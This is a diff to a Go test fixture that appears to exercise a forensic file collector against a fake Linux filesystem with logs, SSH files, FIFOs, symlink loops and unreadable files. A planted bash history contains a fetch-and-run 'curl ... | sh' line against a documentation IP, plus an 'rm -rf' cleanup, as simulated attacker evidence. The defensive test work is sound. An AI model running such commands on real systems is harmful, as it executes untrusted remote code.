@@ -53,7 +53,7 @@ func newFixture(t *testing.T) *fixture {
 		"/etc/ssh/sshd_config":          "PermitRootLogin no\n",
 		"/etc/crontab":                  "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
 		"/var/log/auth.log":             "Dec  4 10:00:01 ws-e2e-01 sshd[123]: Accepted publickey for u1 from 10.0.0.9 port 50022\n",
-		"/var/log/syslog":               strings.Repeat("Dec  4 10:00:02 ws-e2e-01 kernel: line\n", 200),
+		"/var/log/messages":             strings.Repeat("Dec  4 10:00:02 ws-e2e-01 kernel: line\n", 200),
 		"/home/u1/.bash_history":        "curl http://203.0.113.5/x.sh | sh\nrm -rf /tmp/.x\n",
 		"/root/.bash_history":           "journalctl -u sshd\n",
 		"/home/u1/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e u1@laptop\n",
@@ -70,31 +70,31 @@ func newFixture(t *testing.T) *fixture {
 	f.collected = append(f.collected, "/home/u1/.mozilla/firefox/abcd1234.default-release/places.sqlite")
 
 	// A name that is not valid UTF-8.
-	f.nonUTF8 = "/var/log/caf\xe9-\xff.log"
+	f.nonUTF8 = "/var/log/audit/caf\xe9-\xff.log"
 	writeFile(t, root, f.nonUTF8, "latin-1 named log\n", 0o644)
 
 	// A file root can read only with CAP_DAC_OVERRIDE.
-	f.unreadable = "/var/log/unreadable.log"
+	f.unreadable = "/var/log/audit/audit.log"
 	writeFile(t, root, f.unreadable, "secret\n", 0o000)
 
 	// A FIFO: opening it for reading would block forever.
-	f.fifo = "/var/log/pipe.fifo"
+	f.fifo = "/var/log/audit/pipe"
 	if err := syscall.Mkfifo(filepath.Join(root, f.fifo), 0o644); err != nil {
 		t.Fatal(err)
 	}
 
 	// A directory symlink loop inside a recursively collected tree, and a
 	// pair of file symlinks pointing at each other.
-	f.loopDir = "/var/log/loop"
+	f.loopDir = "/var/log/audit/loop"
 	os.MkdirAll(filepath.Join(root, f.loopDir), 0o755)
 	if err := os.Symlink("..", filepath.Join(root, f.loopDir, "parent")); err != nil {
 		t.Fatal(err)
 	}
-	os.Symlink("b.log", filepath.Join(root, "/var/log/a.log"))
-	os.Symlink("a.log", filepath.Join(root, "/var/log/b.log"))
+	os.Symlink("auth.log.2", filepath.Join(root, "/var/log/auth.log.1"))
+	os.Symlink("auth.log.1", filepath.Join(root, "/var/log/auth.log.2"))
 
 	// A file that grows while the responder reads it.
-	f.growing = "/var/log/growing.log"
+	f.growing = "/var/log/syslog"
 	writeFile(t, root, f.growing, strings.Repeat("initial line\n", 50000), 0o644)
 	ctx, cancel := context.WithCancel(context.Background())
 	f.stopGrowing = cancel
